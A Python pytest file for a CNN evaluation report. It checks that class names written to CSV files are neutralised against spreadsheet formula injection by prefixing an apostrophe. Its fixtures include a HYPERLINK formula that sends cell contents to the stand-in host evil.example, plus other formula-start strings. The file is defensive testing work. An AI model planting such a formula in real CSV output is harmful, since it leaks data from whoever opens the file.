"""The report's CSV files: class names a spreadsheet would run as formulas are neutralised."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import numpy as np
import pytest

from georaster_cnn.evaluation.report import EvaluationReport, csv_text

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
NAMES = (EVIL, "+SUM(1,2)", "-2+3", "@cmd", "forest", "a=b", "-")


def _rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


@pytest.fixture
def report() -> EvaluationReport:
    k = len(NAMES)
    cm = np.arange(k * k, dtype=np.int64).reshape(k, k)
    return EvaluationReport(NAMES, cm, stride=8, patch_size=16)


def test_csv_text() -> None:
    assert csv_text(EVIL) == "'" + EVIL
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_text(start + "x") == "'" + start + "x"
    for safe in ("forest", "a=b", "", " =x", "'=x", "1.5"):
        assert csv_text(safe) == safe


def test_formula_class_names_read_back_with_an_apostrophe(
    tmp_path: Path, report: EvaluationReport
) -> None:
    report.write(tmp_path)
    expected = [csv_text(n) for n in NAMES]
    assert expected[0] == "'" + EVIL and expected[4:6] == ["forest", "a=b"]

    per_class = _rows(tmp_path / "per_class.csv")
    assert per_class[0] == [
        "class_id",
        "class",
        "precision",
        "recall",
        "f1",
        "support",
        "predicted",
    ]
    assert [r[1] for r in per_class[1:]] == expected
    # numbers are written as plain numbers, never prefixed
    for r in per_class[1:]:
        int(r[0]), float(r[2]), float(r[3]), float(r[4]), int(r[5]), int(r[6])

    confusion = _rows(tmp_path / "confusion_matrix.csv")
    assert confusion[0] == ["true \\ predicted", *expected]
    assert [r[0] for r in confusion[1:]] == expected
    assert [[int(v) for v in r[1:]] for r in confusion[1:]] == report.confusion.tolist()
    # no cell of either file starts a formula
    for rows in (per_class, confusion):
        assert not [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]

    # metrics.json keeps the names as they are: JSON is not run by spreadsheets
    metrics = json.loads((tmp_path / "metrics.json").read_text())
    assert metrics["class_names"] == list(NAMES)


def test_tab_and_carriage_return_starts_are_neutralised() -> None:
    # (a model card cannot hold such names; a report built by hand can). RFC 4180 line
    # ends (CRLF) make the csv module quote a CR inside a field, so rows stay whole.
    report = EvaluationReport(("\tTAB", "\rCR"), np.array([[1, 0], [0, 1]]))
    assert report._per_class_csv().endswith("\r\n")
    assert [r[1] for r in _rows_of(report._per_class_csv())[1:]] == ["'\tTAB", "'\rCR"]
    assert _rows_of(report._confusion_csv())[0][1:] == ["'\tTAB", "'\rCR"]


def test_plain_negative_numbers_stay_numbers() -> None:
    """Numbers we write (ids, counts, ratios) are never prefixed, even when negative."""
    rows = _rows_of(EvaluationReport(("a", "b"), np.array([[3, 1], [0, 2]]))._per_class_csv())
    assert rows[1] == ["0", "a", "1.000000", "0.750000", "0.857143", "4", "3"]
    # csv_text is for text: a number formatted by us never goes through it
    assert csv_text("-1") == "'-1"  # a *class* named "-1" is text, and neutralised


def _rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))
